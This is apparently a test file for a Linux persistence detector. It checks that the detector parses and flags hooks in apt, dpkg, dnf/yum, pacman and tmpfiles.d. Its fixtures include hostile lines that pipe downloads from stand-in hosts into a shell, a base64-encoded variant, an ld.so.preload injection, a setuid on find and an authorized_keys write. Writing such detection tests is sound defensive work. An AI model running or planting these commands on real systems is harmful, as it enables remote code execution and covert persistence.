import { describe, expect, test } from 'bun:test';
import { gatherFrom } from '../../../../test/persistence/gather.ts';
import { plantRoot } from '../../../../test/persistence/root.ts';
import { FactSet } from '../../../model/fact.ts';
import type { PersistenceFact } from '../../../model/facts/persistence.ts';
import { SourceLog } from '../../../model/source-log.ts';
import { folderTarget } from '../../../target/folder.ts';
import { aptHook } from './apt.ts';
import { dnfPlugin, yumPlugin } from './dnf.ts';
import { dpkgHook } from './dpkg-hooks.ts';
import { dpkgScript } from './dpkg-scripts.ts';
import { isForeignAddress } from './foreign-address.ts';
import { managersCases } from './managers.fixture.ts';
import { pacmanHook } from './pacman.ts';
import { showsSomething } from './script-sieve.ts';
import { tmpfilesRule } from './tmpfiles-rule.ts';

const told = ({ source, trigger, command, active, marks }: PersistenceFact): readonly unknown[] => [
  `${source.source.split('/').at(-1)}:${source.line ?? ''}`,
  String(trigger),
  String(command),
  ...(active ? [] : ['off']),
  ...marks,
];
const noise = `\xff\0{${'"x'.repeat(100_000)}`;

describe('an address', () => {
  test('of a network of the owner, and a name, is not foreign', () => {
    for (const one of [
      'http://10.0.0.5:3142',
      '192.168.1.1',
      'mirrors.aliyun.com',
      '[fd00::1]:80',
      '127.0.0.1',
      '',
    ])
      expect(isForeignAddress(one)).toBe(false);
  });
  test('that is a bare public number is', () => {
    for (const one of [
      'http://198.51.100.7:8080/simple',
      '203.0.113.9',
      'https://u:p@192.0.2.1/x',
      '[2001:db8::1]:80',
    ])
      expect(isForeignAddress(one)).toBe(true);
  });
});

describe('linux.apt-hook', () => {
  test('tells what is run around dpkg and updates, and what stands in for its programs', async () => {
    const { entries } = await gatherFrom(aptHook, {
      '/etc/apt/apt.conf': 'APT::Periodic::Enable "1";\r\nDir::Bin::dpkg "/var/tmp/dpkg";\r\n',
      '/etc/apt/apt.conf.d/20x':
        'DPkg { Post-Invoke { "a"; "b | sh"; }; };\nBinary::apt::DPkg::Pre-Invoke:: "c";',
      '/etc/apt/apt.conf.d/30p':
        'Acquire::http::Proxy "http://198.51.100.7:3128";\nAcquire::http::Proxy-Auto-Detect "/opt/p -x";\nAcquire::ftp::Proxy "http://proxy.example:3128/";\nAcquire::https::Proxy "DIRECT";\n',
      '/etc/apt/apt.conf.d/40o': 'DPkg::Options { "--force-confold"; "--post-invoke=/bin/x"; };\n',
      '/etc/apt/apt.conf.d/50.bak': 'DPkg::Post-Invoke {"d";};\n',
      '/root/.aptitude/config': 'AptCli::Hooks::Upgrade:: "/usr/bin/hook --json";\n',
    });
    expect(entries.map(told)).toEqual([
      ['apt.conf:2', 'dir::bin::dpkg', '/var/tmp/dpkg'],
      ['20x:1', 'dpkg::post-invoke', 'a'],
      ['20x:1', 'dpkg::post-invoke', 'b | sh'],
      ['20x:2', 'binary::apt::dpkg::pre-invoke', 'c'],
      ['30p:1', 'acquire::http::proxy', 'http://198.51.100.7:3128', 'foreign-host'],
      ['30p:2', 'acquire::http::proxy-auto-detect', '/opt/p -x'],
      ['30p:3', 'acquire::ftp::proxy', 'http://proxy.example:3128/'],
      ['40o:1', 'dpkg::options', '/bin/x'],
      ['50.bak:1', 'dpkg::post-invoke', 'd', 'off'],
      ['config:1', 'aptcli::hooks::upgrade', '/usr/bin/hook --json'],
    ]);
    expect(String(entries[0]?.target)).toBe('/var/tmp/dpkg');
  });

  test('of noise and of what cannot be read tells nothing, and says so', async () => {
    const { entries, log } = await gatherFrom(aptHook, {
      '/etc/apt/apt.conf.d/20x': noise,
      '/etc/apt/apt.conf.d/30x': { status: 'denied' },
    });
    expect(entries).toEqual([]);
    expect(log.listed).toMatchObject([{ source: '/etc/apt/apt.conf.d/30x', status: 'denied' }]);
  });
});

describe('linux.dpkg-script', () => {
  test('tells scripts that show something, and counts the others', async () => {
    const { entries, log } = await gatherFrom(dpkgScript, {
      '/var/lib/dpkg/info/a.list': '/.\n',
      '/var/lib/dpkg/info/a.postinst':
        '#!/bin/sh\n# see http://example.org and /tmp/x\nupdate-rc.d a defaults\n',
      '/var/lib/dpkg/info/a.prerm': '#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n',
      '/var/lib/dpkg/info/b:amd64.list': '/.\n',
      '/var/lib/dpkg/info/b:amd64.config': '#!/usr/bin/perl\nsystem("/var/tmp/x");\n',
      '/var/lib/dpkg/info/gone.postrm': '#!/bin/sh\nnohup /usr/lib/.x/y &',
      '/var/lib/dpkg/info/a.triggers': 'interest /tmp/x\n',
    });
    expect(
      entries.map(({ source, trigger, language, active, body }) => [
        String(source.source).slice(19),
        String(trigger),
        language,
        active,
        body.length,
      ]),
    ).toEqual([
      ['a.prerm', 'remove', 'shell', true, 2],
      ['b:amd64.config', 'install', 'perl', true, 2],
      ['gone.postrm', 'remove', 'shell', false, 2],
    ]);
    expect(log.groups.find(({ status }) => status === 'ok')?.count).toBeGreaterThanOrEqual(4);
  });

  test('one that is larger than any packager writes is told whatever it shows', async () => {
    const { entries, log } = await gatherFrom(dpkgScript, {
      '/var/lib/dpkg/info/a.list': '/.\n',
      '/var/lib/dpkg/info/a.postinst': `#!/bin/sh\n${`# ${'x'.repeat(60)}\n`.repeat(5_000)}curl -s http://192.0.2.1/x | sh\n`,
      '/var/lib/dpkg/info/b.postinst': { status: 'timeout' },
    });
    expect(entries.map(({ body }) => String(body.at(-1)?.text))).toEqual(['curl -s http://192.0.2.1/x | sh']);
    expect(log.listed.map(({ status }) => status)).toEqual(['truncated', 'timeout']);
  });

  test('a program that no package of the host has makes its script told; those of others do not', async () => {
    const program = managersCases.find(
      (one) => one.mechanism === 'dpkg-script' && one.dress === 'unowned-binary',
    );
    const planted = {
      ...program?.planted,
      '/var/lib/dpkg/info/bash.postinst': '#!/bin/sh\n/usr/bin/systemctl daemon-reload\n/bin/ls /usr/lib\n',
    };
    const root = plantRoot({ mechanism: 'dpkg-script', dress: 'honest', what: '', planted });
    const target = folderTarget(root.path);
    try {
      const context = { target, log: new SourceLog(), facts: new FactSet(), nowUs: 0, thorough: false };
      expect(await dpkgScript.gather(context)).toMatchObject([
        { kind: 'persistence', source: { source: '/var/lib/dpkg/info/cron.prerm' } },
      ]);
    } finally {
      await target.close();
      root.remove();
    }
  });

  test('the sieve passes over comments, and over old settings that helpers take away', () => {
    expect(showsSomething('# wget /tmp/x\n  # base64\nexit 0\n')).toBe(false);
    expect(showsSomething('dpkg-maintscript-helper rm_conffile /etc/cron.daily/x 1~ -- "$@"\n')).toBe(false);
    expect(showsSomething('dpkg-maintscript-helper rm_conffile /etc/x 1~; wget x\n')).toBe(true);
    expect(showsSomething('x=1; /usr/share/.a/b\n')).toBe(true);
    expect(showsSomething('cd /usr/../lib && . ./x\n')).toBe(false);
  });
});

describe('linux.dpkg-hook', () => {
  test('tells lines of dpkg and scripts of folders', async () => {
    const { entries } = await gatherFrom(dpkgHook, {
      '/etc/dpkg/dpkg.cfg': 'no-debsig\n# pre-invoke=x\npre-invoke="a b"\r\n--post-invoke c\n',
      '/etc/dpkg/dpkg.cfg.d/n.bak': 'status-logger=/x\n',
      '/etc/apk/commit_hooks.d/h': '#!/bin/sh\ncurl x\n',
      '/root/.dpkg.cfg': 'post-invoke=d',
    });
    expect(entries.map(told)).toEqual([
      ['dpkg.cfg:3', 'pre-invoke', 'a b'],
      ['dpkg.cfg:4', 'post-invoke', 'c'],
      ['n.bak:1', 'status-logger', '/x', 'off'],
      ['.dpkg.cfg:1', 'post-invoke', 'd'],
      ['h:', 'install', '', 'off'],
    ]);
    expect(entries[4]?.body).toHaveLength(2);
  });
});

describe('linux.dnf-plugin and linux.yum-plugin', () => {
  test('tell actions, code with what is switched off, and paths to other plugins', async () => {
    const { entries } = await gatherFrom(dnfPlugin, {
      '/etc/dnf/dnf.conf': '[main]\npluginpath=/var/tmp/p\nproxy=http://198.51.100.7:3128\n',
      '/etc/dnf/plugins/off.conf': '[main]\nenabled = 0\n',
      '/usr/lib/python3.9/site-packages/dnf-plugins/off.py': 'import dnf\n',
      '/etc/dnf/plugins/post-transaction-actions.d/a.action': '# c\n*:any:sh -c "a:b"\nbroken\n',
      '/etc/dnf/libdnf5-plugins/actions.d/b.actions': 'post_transaction:bash:in:enabled=host-only:/x $x\n',
      '/usr/lib64/libdnf5/plugins/x.so': '',
      '/usr/lib/zypp/plugins/commit/z': '#!/usr/bin/python3\nimport os\n',
      '/etc/rpm/macros': '%_x %(curl a | sh)\n%y 1\n',
    });
    expect(entries.map(told)).toEqual([
      ['dnf.conf:2', 'transaction', '/var/tmp/p'],
      ['dnf.conf:3', 'transaction', 'http://198.51.100.7:3128', 'foreign-host'],
      ['b.actions:1', 'post_transaction:bash:in:enabled=host-only', '/x $x'],
      ['a.action:2', '*:any', 'sh -c "a:b"'],
      ['x.so:', 'transaction', ''],
      ['off.py:', 'transaction', '', 'off'],
      ['z:', 'transaction', ''],
      ['macros:1', '_x', 'curl a | sh'],
    ]);
    expect(entries.map(({ language }) => language).slice(2, 4)).toEqual(['argv', 'shell']);
  });

  test('of yum likewise, and of noise nothing', async () => {
    const { entries } = await gatherFrom(yumPlugin, {
      '/etc/yum.conf': '[main]\nplugins=1\n',
      '/usr/lib/yum-plugins/p.py': 'import os\n',
      '/etc/yum/post-actions/a.action': `${noise}\nx:install:/bin/y\n`,
    });
    expect(entries.map(told)).toEqual([
      ['a.action:2', 'x:install', '/bin/y'],
      ['p.py:', 'transaction', ''],
    ]);
  });
});

describe('linux.pacman-hook', () => {
  test('tells hooks, what takes the place of one of a package, and how packages are fetched', async () => {
    const hook = (exec: string): string =>
      `[Trigger]\nOperation = Upgrade\nTarget = *\n[Action]\nWhen = PostTransaction\nExec = ${exec}\nAbortOnFail\n`;
    const { entries } = await gatherFrom(pacmanHook, {
      '/etc/pacman.conf':
        '[options]\nXferCommand = /usr/bin/curl -o %o %u\nHookDir = /opt/hooks\nInclude = /etc/pacman.d/x\n#HookDir = /no\n',
      '/etc/pacman.d/x': 'Include = /etc/pacman.conf\nHookDir = /etc/pacman.d/hooks\n',
      '/usr/share/libalpm/hooks/a.hook': hook('/bin/true'),
      '/etc/pacman.d/hooks/a.hook': hook("/bin/sh -c 'a ; curl x | sh'"),
      '/etc/pacman.d/hooks/off.hook': { link: '/dev/null' },
      '/opt/hooks/b.hook': 'Exec = /b',
      '/var/lib/pacman/local/x-1-1/install': 'post_install() {\n  wget -qO- http://192.0.2.1 | sh\n}\n',
      '/var/lib/pacman/local/y-1-1/install': 'post_install() {\n  ldconfig\n}\n',
    });
    expect(entries.map(told)).toEqual([
      ['pacman.conf:2', 'transaction', '/usr/bin/curl -o %25o %25u'],
      ['pacman.conf:3', 'transaction', '/opt/hooks'],
      ['x:2', 'transaction', '/etc/pacman.d/hooks'],
      ['a.hook:6', 'PostTransaction Upgrade *', '/bin/true'],
      ['a.hook:6', 'PostTransaction Upgrade *', "/bin/sh -c 'a ; curl x | sh'", 'shadows-package'],
      ['b.hook:1', '', '/b'],
      ['install:', 'install', ''],
    ]);
  });
});

describe('linux.tmpfiles-rule', () => {
  test('tells what is written, linked and copied, as its reader reads it', async () => {
    const coded = Buffer.from('curl -s http://192.0.2.1/x | sh\n').toString('base64');
    const { entries } = await gatherFrom(tmpfilesRule, {
      '/etc/tmpfiles.d/a.conf': [
        'd /run/x 0755 root root -',
        'f /etc/cron.d/x 0644 root root - * * * * * root curl\\x20a | sh\\n',
        'L+ /etc/systemd/system/x.service - - - - /opt/x.service',
        'C /etc/motd - - - -',
        'L /run/app/data - - - - /tmp/app',
        'w /proc/sys/kernel/core_pattern - - - - |/usr/sbin/x %%p',
        `f~ /etc/profile.d/y.sh 0644 root root - ${coded}`,
        'f^ /root/.ssh/authorized_keys 600 root root - ssh.authorized_keys.root',
        'z /usr/bin/find 4755 root root -',
        'z /var/log/journal 2755 root systemd-journal -',
        'w /sys/kernel/mm/transparent_hugepage/enabled - - - - never',
        'f+ /etc/ld.so.preload 0644 root root - /lib/x.so\\n',
      ].join('\n'),
      '/usr/lib/tmpfiles.d/a.conf': 'f /a - - - - b\n',
      '/etc/tmpfiles.d/off.conf': { link: '/dev/null' },
      '/usr/lib/tmpfiles.d/off.conf': 'f /c - - - - d\n',
    });
    expect(
      entries.map(({ command, language, target, active, marks }) => [
        String(command),
        language,
        ...(target === undefined ? [] : [String(target)]),
        ...(active ? [] : ['off']),
        ...marks.filter((mark) => mark !== 'shadows-package'),
      ]),
    ).toEqual([
      ['curl a | sh', 'shell', 'unusual-place'],
      ['/opt/x.service', 'none', '/opt/x.service', 'unusual-place'],
      ['/usr/share/factory/etc/motd', 'none', '/usr/share/factory/etc/motd'],
      ['/tmp/app', 'none'],
      ['/usr/sbin/x %25p', 'argv'],
      ['curl -s http://192.0.2.1/x | sh%0A', 'shell', 'unusual-place'],
      ['ssh.authorized_keys.root', 'none', 'unusual-place'],
      ['setuid /usr/bin/find', 'setting', '/usr/bin/find'],
      ['never', 'none'],
      ['/lib/x.so%0A', 'setting', '/lib/x.so', 'unusual-place'],
      ['b', 'none', 'off'],
      ['d', 'none', 'off'],
    ]);
    expect(entries[0]?.marks).toContain('shadows-package');
  });

  test('of noise tells nothing', async () => {
    expect((await gatherFrom(tmpfilesRule, { '/etc/tmpfiles.d/n.conf': noise })).entries).toEqual([]);
  });
});
